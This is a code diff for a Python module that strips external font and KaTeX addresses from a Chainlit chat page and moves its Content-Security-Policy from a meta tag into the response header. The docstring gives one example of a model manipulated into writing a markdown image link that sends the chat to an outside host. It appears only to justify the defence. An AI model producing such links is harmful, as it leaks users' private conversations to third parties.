@@ -2,8 +2,9 @@
 
 Chainlit's built page asks Google for fonts and a public mirror for KaTeX's style sheet, which an internal network cannot
 reach and a private chat should not call. Neither can be turned off by configuration alone, so the page is rewritten each
-time it is rendered; the installed package stays as it is. A Content-Security-Policy then holds the browser to it, also for
-an image address in an answer: a model that was talked into `![](https://elsewhere/?q=<the chat>)` cannot send it anywhere.
+time it is rendered; the installed package stays as it is. A Content-Security-Policy in its header then holds the browser to
+it, also for an image address in an answer: a model that was talked into `![](https://elsewhere/?q=<the chat>)` cannot send it
+anywhere.
 """
 
 from __future__ import annotations
@@ -14,6 +15,7 @@ from pathlib import Path
 from typing import Any, Literal
 
 from chainlit.config import ChainlitConfig
+from starlette.responses import HTMLResponse
 
 from i18n.catalogue import Locale, locale_of
 from patching import PatchError
@@ -32,11 +34,11 @@ def page_language(tag: str) -> Language:
     return LANGUAGES[locale_of(tag)]
 
 
-def local_page(html: str, root_path: str, policy: Callable[[str], str]) -> str:
-    """Chainlit's rendered page with every foreign address removed, `policy(html)` and our scripts in its head.
+def local_page(html: str, root_path: str) -> str:
+    """Chainlit's rendered page with every foreign address removed, and our scripts in its head.
 
     `root_path` is a reverse proxy's prefix, or empty. Raises `PatchError` where the head is not as expected: the page would be
-    served without its policy and without our scripts, and nobody would notice.
+    served without our scripts, and nobody would notice.
     """
     public = f"{root_path.rstrip('/')}/public"
     html = _KATEX.sub(f'href="{public}/katex/katex.min.css"', html)
@@ -51,8 +53,7 @@ def local_page(html: str, root_path: str, policy: Callable[[str], str]) -> str:
         f'<script src="{public}/first-paint.js"></script>',
         f'<script type="module" src="{public}/page/main.js"></script>',
     ]
-    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy(html)}" />'
-    return html.replace(CHARSET, "\n    ".join([CHARSET, meta, *scripts]), 1)
+    return html.replace(CHARSET, "\n    ".join([CHARSET, *scripts]), 1)
 
 
 def readme(root: str, language: str) -> str | None:
@@ -61,13 +62,26 @@ def readme(root: str, language: str) -> str | None:
     return path.read_text(encoding="utf-8") if path.is_file() else None
 
 
-def html_template(render: Callable[[str], str], policy: Callable[[str], str]) -> Callable[[str], str]:
+def html_template(render: Callable[[str], str]) -> Callable[[str], str]:
     """For `chainlit.server.get_html_template`, which is `render`."""
 
     def get_html_template(root_path: str) -> str:
-        return local_page(render(root_path), root_path, policy)
+        return local_page(render(root_path), root_path)
 
     return get_html_template
+
+
+def html_response(policy: Callable[[str], str]) -> type[HTMLResponse]:
+    """For `chainlit.server.HTMLResponse`, which sends the rendered page: with `policy(html)` in its header.
+
+    Made for each page: the hashes of its inline scripts change with `public/theme.json`.
+    """
+
+    class PageResponse(HTMLResponse):
+        def __init__(self, content: str, status_code: int = 200) -> None:
+            super().__init__(content, status_code, {"content-security-policy": policy(content)})
+
+    return PageResponse
 
 
 def load_translation(translate: Callable[..., dict[str, Any]]) -> Callable[..., dict[str, Any]]:
